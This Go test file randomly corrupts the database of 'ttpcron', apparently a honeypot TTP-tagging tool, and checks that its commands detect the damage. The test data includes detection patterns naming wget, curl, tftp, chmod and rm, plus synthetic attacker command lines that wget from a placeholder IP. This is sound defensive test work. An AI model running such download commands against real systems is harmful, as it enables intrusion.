package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/ttpcron/ttpcron"
	"github.com/ttpcron/ttpcron/bench/workload"
)

var damageTime = flag.Duration("damage", 4*time.Second, "how long stores are damaged at random")

var damageAll = flag.Bool("damage-all", false, "go on after a failure")

var damageDir = flag.String("damage-dir", "", "where stores are kept that failed; the folder for temporary files when empty")

// TestRandomDamage damages a store at random, and runs every command that reads one. Each
// reports damage, or gives exactly the result for the intact store; and db check finds
// what any of them finds. go test -run TestRandomDamage -damage 1h -timeout 2h
// ./cmd/ttpcron
func TestRandomDamage(t *testing.T) {
	d := newDamager(t)
	lasts := *damageTime
	if testing.Short() {
		lasts = min(lasts, 2*time.Second)
	}
	seed := uint64(time.Now().UnixNano())
	count := 0
	said := time.Now()
	for until := said.Add(lasts); time.Now().Before(until) && (!t.Failed() || *damageAll) || count == 0; seed++ {
		d.try(t, seed)
		if count++; time.Since(said) > time.Minute {
			said = time.Now()
			t.Logf("%d corruptions so far", count)
		}
	}
	var sorts []string
	for _, name := range slices.Sorted(maps.Keys(d.sorts)) {
		sorts = append(sorts, fmt.Sprintf("%s %d", name, d.sorts[name]))
	}
	t.Logf("%d corruptions (%s), %d commands: %d refused, %d answered as for the whole store; db check found %d of the corruptions, %d more were of bytes that belong to nothing",
		count, strings.Join(sorts, ", "), d.ran, d.refused, d.same, d.found, count-d.found)
}

// readings are the commands that read the store and change nothing. DB stands for its file
// and DIR for a folder.
var readings = []string{
	"tags --limit 0", "tags --json", "tags --limit 3 --uuid", "tags --limit 5", "tags --json --technique T1082", "tags --json --technique T1105 --limit 2",
	"tags --json --attacker ATTACKER", "tags --json --session SESSION", "tags --json --since 2026-01-03 --until 2026-01-05T12:00:00Z", "tags --json --rule D2 --since 2026-01-04",
	"tags --json --min-confidence 0.9",
	"session SESSION", "session SESSION --json", "attacker ATTACKER", "attacker ATTACKER --json",
	"export --format csv", "export --format jsonl --session SESSION", "export --format attack-flow --session SESSION", "export-events", "export-events --source canary", "export-events --since 2026-01-03T06:00:00Z --until 2026-01-06",
	"attackers", "attackers --json --technique T1105", "sessions --json", "techniques --json --attacker ATTACKER", "sensors --csv", "summary --json", "credentials --csv --users", "files --csv", "report -o -",
	"status", "status --json",
	"explain --tag UUID", "rules noise", "rules noise --json --since 2026-01-04", "rules noise --replay --json", "rules untagged --limit 0 --json", "rules list --json", "rules show D2 --json", "rules log --json", "rules log --limit 2",
	"rules state list --json", "checkpoint show --json", "import --rejected", "import --rejected --json", "db prune --keep-events 5d --keep-tags 8d --yes --dry-run --json",
	"run-once --dry-run --json", "run-once --dry-run --json --since-days 30", "run-once --dry-run --rules-changed-only --json",
	"db stats --json",
}

// writings are the commands that change or copy the store, and those that show afterwards
// whether everything is there.
var writings = []string{
	"db compact", "db purge --attacker ATTACKER --yes --json", "db backup DIR/copy.db", "db recover DIR/copy.db", "run-once --json", "run-once --json --since-days 30", "import DIR/all.jsonl --json", "import DIR/more.jsonl --json",
	"db prune --keep-events 5d --keep-tags 8d --yes --json", "rules retire D2", "rules state set D1 disabled", "checkpoint reset --source command", "db restore DIR/damaged.db",
	"rules unretire D3", "rules state clear D4", "checkpoint set 0 --source command",
}

// withoutStore are the commands that read no store, and the doctor, which reads what
// status does, and reports faults instead of failing.
var withoutStore = []string{
	"", "checkpoint", "completion", "config", "config check", "daemon", "db", "doctor", "explain", "man", "rules", "rules check", "rules coverage", "rules eval", "rules state", "rules test", "version", "db check",
}

func TestDamageKnowsCommands(t *testing.T) {
	for _, name := range commands() {
		begins := func(line string) bool { return line == name || strings.HasPrefix(line, name+" ") }
		if !slices.Contains(withoutStore, name) && !slices.ContainsFunc(readings, begins) && !slices.ContainsFunc(writings, begins) {
			t.Errorf("no damaged store is given to %s", name)
		}
	}
}

// answer is a command's output and effect.
type answer struct {
	line           string
	code           int
	stdout, stderr string
}

// damager damages a store.
type damager struct {
	dir   string
	env   []string
	whole []byte
	now   time.Time
	words map[string]string
	// want has the answers for the intact store, and for the store without one of its two
	// headers: it may be one transaction older.
	want map[string][]string

	sorts                     map[string]int
	ran, refused, same, found int
}

var damageRules = map[string]string{
	"D1": `(?i)\buname\b|/proc/cpuinfo|\bnproc\b`, "D2": `\bwget\b|\bcurl\b|\btftp\b`, "D3": `\bchmod\b|\bsh\b`, "D4": `\brm\b|\bhistory\b`, "D5": `.`,
}

var damageTechniques = map[string]string{"D1": "T1082", "D2": "T1105", "D3": "T1059", "D4": "T1070", "D5": "T1059"}

var damageTactics = map[string]string{"D1": "TA0007", "D2": "TA0011", "D3": "TA0002", "D4": "TA0005", "D5": "TA0002"}

func newDamager(t *testing.T) *damager {
	d := newWhole(t)
	d.baseline(t)
	return d
}

// newWhole makes the store that is to be damaged.
func newWhole(t *testing.T) *damager {
	d := &damager{dir: memoryDir(t), words: map[string]string{}, want: map[string][]string{}, sorts: map[string]int{}, now: time.Date(2026, 1, 12, 0, 0, 0, 0, time.UTC)}
	rules := filepath.Join(d.dir, "rules")
	if err := os.Mkdir(rules, 0o700); err != nil {
		t.Fatal(err)
	}
	for id, pattern := range damageRules {
		d.writeRule(t, id, pattern)
	}
	d.env = []string{"TTPCRON_CONFIG=" + os.DevNull, "HOME=" + d.dir, "TTPCRON_SOCKET=" + filepath.Join(d.dir, "none"), "TTPCRON_RULES=" + rules, "TTPCRON_EMBEDDED=false", "TTPCRON_DB=" + d.path("whole.db")}
	t.Setenv("TMPDIR", d.dir)
	d.build(t)
	return d
}

// memoryDir makes a folder in memory, if possible.
func memoryDir(t *testing.T) string {
	dir, err := os.MkdirTemp("/dev/shm", "ttpcron")
	if err != nil {
		return t.TempDir()
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func (d *damager) writeRule(t *testing.T, id, pattern string) {
	t.Helper()
	text := fmt.Sprintf("rule_id: %s\nrule_version: 1\nname: %s\napplies_to: [command, canary_fingerprint]\nmatch: {pattern: '%s'}\nemits: [{tactic: %s, technique_id: %s, confidence: 0.%d}]\n",
		id, id, pattern, damageTactics[id], damageTechniques[id], 5+id[1]-'1')
	d.write(t, "rules/"+id+".yaml", []byte(text))
}

func (d *damager) path(name string) string { return filepath.Join(d.dir, name) }

func (d *damager) write(t *testing.T, name string, content []byte) {
	t.Helper()
	os.Remove(d.path(name)) // a store that could not be closed stays locked
	if err := os.WriteFile(d.path(name), content, 0o600); err != nil {
		t.Fatal(err)
	}
}

// invoke runs a command over a store.
func (d *damager) invoke(store, line string) answer {
	args := strings.Fields(line)
	for i := range args {
		for word, stands := range d.words {
			args[i] = strings.ReplaceAll(args[i], word, stands)
		}
	}
	var out, errs bytes.Buffer
	done := make(chan int, 1)
	go func() {
		env := append(d.env, "TTPCRON_DB="+store)
		done <- run(context.Background(), func() time.Time { return d.now }, args, strings.NewReader(""), &out, &errs, env)
	}()
	select {
	case code := <-done:
		d.ran++
		return answer{line, code, steady(out.String()), errs.String()}
	case <-time.After(2 * time.Minute): // a safety net
		panic("ttpcron " + line + " hangs")
	}
}

// steady replaces what differs from run to run.
var changing = regexp.MustCompile(`"(elapsed_seconds|elapsed_s|elapsed|run_id|started|finished|started_at|finished_at|file_bytes|free_bytes|bytes|data_bytes|path|db|file|created_at|at|updated_at|set_at)":("[^"]*"|[0-9.e+-]+)`)

var runID = regexp.MustCompile(`[0-9]{8}T[0-9.]+Z-[0-9a-f]{8}`)

func steady(s string) string {
	if len(s) > 20_000 {
		return s // events or tags
	}
	return runID.ReplaceAllString(changing.ReplaceAllString(s, `"$1":"_"`), "RUN")
}

// build makes a store with something in each part, in several steps, so that it has old
// pages.
func (d *damager) build(t *testing.T) {
	var all, more bytes.Buffer
	store := d.path("whole.db")
	must := func(line string) answer {
		t.Helper()
		d.now = d.now.Add(time.Minute)
		a := d.invoke(store, line)
		if a.code != exitDone {
			t.Fatalf("%s: exit %d\n%s%s", line, a.code, a.stdout, a.stderr)
		}
		return a
	}
	n := 0
	var last ttpcron.Event
	for e := range workload.Events(workload.Options{Commands: 900, Seed: 5, Days: 9}) {
		if n%4 == 0 {
			e.ID = fmt.Sprint("id", n)
		}
		if n%11 == 0 {
			e.Kind = ttpcron.CanaryFingerprint
		}
		all.Write(append(e.AppendJSON(nil), '\n'))
		last = e
		if n++; n%300 == 0 {
			d.write(t, "all.jsonl", all.Bytes())
			d.words["DIR"] = d.dir
			must("import --format events DIR/all.jsonl")
			must("run-once --since-days 30")
			must("rules state set D4 clipped=0.5")
			must(map[int]string{300: "rules retire D3", 600: "rules state set D1 clipped=0.6", 900: "checkpoint show"}[n])
		}
	}
	for i := range 40 {
		e := last
		e.Kind, e.Payload = ttpcron.Command, ttpcron.TextPayload("command_text", fmt.Sprint("wget http://203.0.113.9/", i))
		more.Write(append(e.AppendJSON(nil), '\n'))
	}
	d.write(t, "more.jsonl", more.Bytes())
	d.write(t, "odd.jsonl", []byte(strings.Repeat("{\"source_kind\":\"command\"}\n", 20)))
	d.invoke(store, "import --format events DIR/odd.jsonl")
	d.words["ATTACKER"], d.words["SESSION"] = last.AttackerIP, last.SessionID
	var tag struct {
		UUID string `json:"uuid"`
	}
	first, _, _ := strings.Cut(must("tags --json --until 2026-01-03").stdout, "\n")
	if err := json.Unmarshal([]byte(first), &tag); err != nil || tag.UUID == "" {
		t.Fatalf("%v: %s", err, first)
	}
	d.words["UUID"] = tag.UUID
	if a := d.invoke(store, "db check"); a.code != exitDone {
		t.Fatal(a)
	}
	var err error
	d.now = d.now.Add(time.Hour)
	if d.whole, err = os.ReadFile(store); err != nil {
		t.Fatal(err)
	}
}

// baseline records the commands' answers for the intact store.
func (d *damager) baseline(t *testing.T) {
	for header := range 3 {
		content := bytes.Clone(d.whole)
		if header > 0 {
			clear(content[(header-1)*4096 : header*4096])
		}
		for _, line := range readings {
			d.write(t, "damaged.db", content)
			a := d.invoke(d.path("damaged.db"), line)
			if again := d.invoke(d.path("damaged.db"), line); again != a {
				t.Fatalf("%s: another answer the second time\n%.2000s\n%.2000s", line, a.stdout+a.stderr, again.stdout+again.stderr)
			}
			if a.code != exitDone || header == 0 && a.stdout == "" {
				t.Fatalf("%s: exit %d\n%s%s", line, a.code, a.stdout, a.stderr)
			}
			d.want[line] = append(d.want[line], a.stdout)
		}
		for _, line := range writings {
			d.write(t, "damaged.db", content)
			for _, a := range d.change(t, line) {
				if a.code != exitDone && header == 0 {
					t.Fatalf("%s: exit %d\n%s%s", a.line, a.code, a.stdout, a.stderr)
				}
				d.want[a.line] = append(d.want[a.line], a.stdout)
			}
		}
	}
	d.ran = 0
}

// change runs a command that overwrites the damaged store, and commands that then show its
// content.
func (d *damager) change(t *testing.T, line string) []answer {
	os.Remove(d.path("copy.db"))
	store, result := d.path("changed.db"), d.path("changed.db")
	content, err := os.ReadFile(d.path("damaged.db"))
	if err != nil {
		t.Fatal(err)
	}
	d.write(t, "changed.db", content)
	a := d.invoke(store, line)
	aside, _ := filepath.Glob(store + ".*")
	for _, name := range aside {
		os.Remove(name)
	}
	saved := !strings.HasPrefix(line, "db recover") || strings.Contains(a.stdout, "nothing was lost")
	if strings.HasPrefix(line, "db ") && !strings.HasPrefix(line, "db prune") {
		a.stdout = "" // sizes differ
	}
	list := []answer{a}
	if a.code != exitDone || !saved {
		return list
	}
	if strings.Contains(line, "copy.db") {
		result = d.path("copy.db")
	}
	for _, look := range []string{"tags --json", "export-events", "checkpoint show --json", "status --json"} {
		b := d.invoke(result, look)
		b.line = line + "; " + look
		list = append(list, b)
	}
	return list
}

// raw reports whether a text has a byte that belongs on no terminal.
func raw(s string) bool {
	s = strings.ReplaceAll(s, "\r\n", "\n") // CSV ends its lines so
	for i := range len(s) {
		if c := s[i]; c < ' ' && c != '\n' && c != '\t' || c == 0x7f {
			return true
		}
	}
	return strings.Contains(s, "\u009b")
}

// try damages the store once and runs all commands over it.
func (d *damager) try(t *testing.T, seed uint64) {
	rnd := rand.New(rand.NewPCG(seed, 3))
	content := bytes.Clone(d.whole)
	sort := corruptions[rnd.IntN(len(corruptions))]
	content, what := sort.do(rnd, content)
	if bytes.Equal(content, d.whole) {
		return
	}
	d.sorts[sort.name]++
	d.write(t, "damaged.db", content)
	store := d.path("damaged.db")
	where := fmt.Sprintf("%s, %s", sort.name, what)
	before := t.Failed()
	defer func() {
		if t.Failed() && !before {
			d.keep(t, content)
		}
	}()
	check := d.invoke(store, "db check")
	if check.code != exitDone {
		d.found++
	}
	for _, line := range readings {
		d.judge(t, where, check, d.invoke(store, line))
		d.write(t, "damaged.db", content)
	}
	for _, line := range writings {
		for _, a := range d.change(t, line) {
			d.judge(t, where, check, a)
		}
	}
}

// keep keeps a store that failed: another run makes another, with other secrets.
func (d *damager) keep(t *testing.T, content []byte) {
	f, err := os.CreateTemp(*damageDir, "ttpcron-damaged-*.db")
	if err != nil {
		t.Log(err)
		return
	}
	_, err = f.Write(content)
	t.Log("the store is kept as", f.Name(), errors.Join(err, f.Close()))
}

// judge says what is wrong with an answer from a damaged store.
func (d *damager) judge(t *testing.T, where string, check, a answer) {
	switch {
	case raw(a.stdout) || raw(a.stderr):
		t.Errorf("%s: %s: raw bytes: %q", where, a.line, a.stdout+a.stderr)
	case a.code == exitDone && slices.Contains(d.want[a.line], a.stdout):
		d.same++
	case a.code == exitDone && strings.Contains(a.stderr, "damaged"):
		d.refused++ // it says what it left out
	case a.code == exitDone:
		t.Errorf("%s: %s: exit 0 with another answer; db check exits %d: %s\n%s", where, a.line, check.code, check.stdout, firstChange(a.stdout, d.want[a.line][0]))
	case a.code == exitFailed && a.stderr != "":
		if d.refused++; check.code == exitDone {
			t.Errorf("%s: %s says %s and db check finds nothing", where, a.line, a.stderr)
		}
		if !strings.Contains(a.stderr, "damaged") && !strings.Contains(a.stderr, "is not a ttpcron store") {
			t.Errorf("%s: %s: says only %s", where, a.line, a.stderr)
		}
	default:
		t.Errorf("%s: %s: exit %d: %s", where, a.line, a.code, a.stderr)
	}
}

// firstChange shows the first line that differs.
func firstChange(got, want string) string {
	a, b := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range min(len(a), len(b)) {
		if a[i] == b[i] {
			continue
		}
		n := 0
		for n < min(len(a[i]), len(b[i])) && a[i][n] == b[i][n] {
			n++
		}
		n = max(0, n-60)
		return fmt.Sprintf("line %d of %d is\n%.200s, want of %d\n%.200s", i+1, len(a), a[i][n:], len(b), b[i][n:])
	}
	return fmt.Sprintf("%d lines, want %d", len(a), len(b))
}
